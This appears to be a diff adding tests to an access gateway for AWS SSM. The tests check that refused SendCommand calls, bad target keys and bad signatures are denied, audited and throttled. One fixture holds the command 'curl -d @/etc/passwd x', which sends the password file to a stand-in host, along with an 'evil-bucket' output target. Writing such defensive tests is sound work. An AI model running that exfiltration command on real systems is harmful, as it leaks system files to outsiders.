@@ -77,6 +77,13 @@ before(async () => {
             instances: [IN_SCOPE, ALSO_IN_SCOPE],
             access: { run: { documents: ['AWS-RunShellScript'] }, observe: { operations: ['GetCommandInvocation', 'ListCommands', 'DescribeInstanceInformation'] } },
           },
+          'fleet-tags': {
+            type: 'ssm',
+            region: REGION,
+            instances: [IN_SCOPE],
+            allowTagTargets: true,
+            access: { run: { documents: ['AWS-RunShellScript'] } },
+          },
           'fleet-role': {
             type: 'ssm',
             region: REGION,
@@ -85,7 +92,7 @@ before(async () => {
             access: { run: { documents: ['AWS-RunShellScript'] } },
           },
         },
-        policies: [{ agents: [`local:${AGENT}`], resources: ['fleet', 'fleet-role'], access: ['run', 'observe'], maxTtl: '15m' }],
+        policies: [{ agents: [`local:${AGENT}`], resources: ['fleet', 'fleet-role', 'fleet-tags'], access: ['run', 'observe'], maxTtl: '15m' }],
         audit: { durability: 'strict' },
       },
       env: { AWS_ACCESS_KEY_ID: airlockUser.accessKeyId, AWS_SECRET_ACCESS_KEY: airlockUser.secretAccessKey, AWS_REGION: REGION },
@@ -247,12 +254,83 @@ describe('ssm audit', () => {
     assert.ok(commands.some((r) => JSON.stringify(r.data?.['commands']) === '["echo cli-v2"]'));
     const responses = records.filter((r) => r.type === 'aws.response' && typeof r.data?.['commandId'] === 'string');
     assert.ok(responses.length >= 5);
-    const denied = records.filter((r) => r.type === 'aws.request' && r.outcome === 'denied');
+    const denied = records.filter((r) => (r.type === 'aws.request' || r.type === 'ssm.command') && r.outcome === 'denied');
     assert.ok(denied.length >= 14, `denied: ${denied.length}`);
     assert.ok(denied.some((r) => String(r.data?.['reason']).includes('StartSession')));
     assert.ok(records.some((r) => r.type === 'auth.failed'));
     assert.ok(!JSON.stringify(records).includes(runner.secret));
     const result = await verifyAuditFiles(gw.auditFiles(), { publicKeys: [gw.gateway.identity.key.publicJwk] });
     assert.equal(result.ok, true, JSON.stringify(result.failure));
+  });
+});
+
+describe('ssm refusals and edges (issue 18)', () => {
+  it('a refused SendCommand is recorded with what was asked, and as a policy.violation', async () => {
+    const c = client(runner);
+    await refused(c.send(send([IN_SCOPE], { OutputS3BucketName: 'evil-bucket', Parameters: { commands: ['curl -d @/etc/passwd x'] } })), 'AccessDeniedException', /OutputS3BucketName/);
+    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'tag:env', Values: ['prod', 'staging'] }], Parameters: { commands: ['id'] } })), 'AccessDeniedException', /allowTagTargets/);
+    c.destroy();
+    const records = gw.auditRecords().filter((r) => r.grant === runner.id && r.outcome === 'denied');
+    const bucket = records.find((r) => r.type === 'ssm.command' && JSON.stringify(r.data).includes('evil-bucket'));
+    assert.ok(bucket, 'the refused command is an ssm.command record');
+    assert.equal(bucket.data?.['document'], 'AWS-RunShellScript');
+    assert.deepEqual(bucket.data?.['instances'], [IN_SCOPE]);
+    assert.deepEqual(bucket.data?.['commands'], ['curl -d @/etc/passwd x']);
+    assert.deepEqual(bucket.data?.['forbiddenMembers'], { OutputS3BucketName: 'evil-bucket' });
+    const tags = records.find((r) => r.type === 'ssm.command' && JSON.stringify(r.data?.['targets']) === JSON.stringify([{ Key: 'tag:env', Values: ['prod', 'staging'] }]));
+    assert.ok(tags, 'the tag values asked for are recorded');
+    const violations = records.filter((r) => r.type === 'policy.violation');
+    assert.ok(violations.some((r) => (r.data?.['forbiddenMembers'] as Record<string, unknown> | undefined)?.['OutputS3BucketName'] === 'evil-bucket'));
+    assert.ok(violations.some((r) => String(JSON.stringify(r.data?.['targets'])).includes('staging')));
+  });
+
+  it('only the target keys SSM defines: instanceids and "InstanceIds " are refused even with allowTagTargets', async () => {
+    const g = await grantFor({ resource: 'fleet-tags', access: 'run' });
+    const c = client(g);
+    for (const Key of ['instanceids', 'InstanceIds ', 'INSTANCEIDS', 'tag: env ']) {
+      await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key, Values: [OUTSIDE] }], Parameters: { commands: ['id'] } })), 'AccessDeniedException', /not a target key SSM defines/);
+    }
+    // The exact keys still work (tag keys with allowTagTargets; instance ids checked).
+    await refused(c.send(new SendCommandCommand({ DocumentName: 'AWS-RunShellScript', Targets: [{ Key: 'InstanceIds', Values: [OUTSIDE] }] })), 'AccessDeniedException', new RegExp(OUTSIDE));
+    c.destroy();
+    const out = await aws(v2, ['ssm', 'send-command', '--document-name', 'AWS-RunShellScript', '--targets', `Key=instanceids,Values=${OUTSIDE}`, '--parameters', 'commands=["id"]', '--endpoint-url', g.endpoint], cliEnv(g.env));
+    assert.notEqual(out.code, 0);
+    assert.match(out.stderr, /AccessDeniedException.*not a target key/s);
+    assert.ok(gw.auditRecords().some((r) => r.grant === g.id && r.type === 'ssm.command' && r.outcome === 'denied' && String(JSON.stringify(r.data?.['targets'])).includes('instanceids')));
+  });
+
+  it('a wrong secret and an unknown key id are answered alike', async () => {
+    const answer = async (accessKeyId: string, secretAccessKey: string) => {
+      const c = new SSMClient({ endpoint: runner.endpoint, region: REGION, credentials: { accessKeyId, secretAccessKey }, maxAttempts: 1 });
+      try {
+        await c.send(new ListCommandsCommand({}));
+        return 'accepted';
+      } catch (e) {
+        return `${(e as Error).name}: ${(e as Error).message}`;
+      } finally {
+        c.destroy();
+      }
+    };
+    const wrongSecret = await answer(runner.id, 'y'.repeat(40));
+    const unknownId = await answer('AGAAAAAAAAAAAAAAAAAA', 'y'.repeat(40));
+    const notAGrant = await answer('AKIAIOSFODNN7EXAMPLE', 'y'.repeat(40));
+    assert.match(wrongSecret, /^InvalidSignatureException/);
+    assert.equal(unknownId, wrongSecret);
+    assert.equal(notAGrant, wrongSecret);
+    assert.ok(!wrongSecret.includes('fleet'), 'no resource named');
+  });
+
+  it('100 bad signatures from an address do not lock out a valid grant from it', async () => {
+    const bad = client(runner, { secretAccessKey: 'q'.repeat(40) });
+    let throttled = 0;
+    for (let i = 0; i < 110; i++) await bad.send(new ListCommandsCommand({})).catch((e: unknown) => void ((e as Error).name === 'ThrottlingException' && throttled++));
+    bad.destroy();
+    assert.ok(throttled > 0, 'failures past the budget are throttled');
+    const good = client(runner);
+    const listed = await good.send(new ListCommandsCommand({}));
+    assert.equal(listed.$metadata.httpStatusCode, 200);
+    good.destroy();
+    const cli = await aws(v2, ['ssm', 'list-commands', '--endpoint-url', runner.endpoint], cliEnv(runner.env));
+    assert.equal(cli.code, 0, cli.stderr);
   });
 });
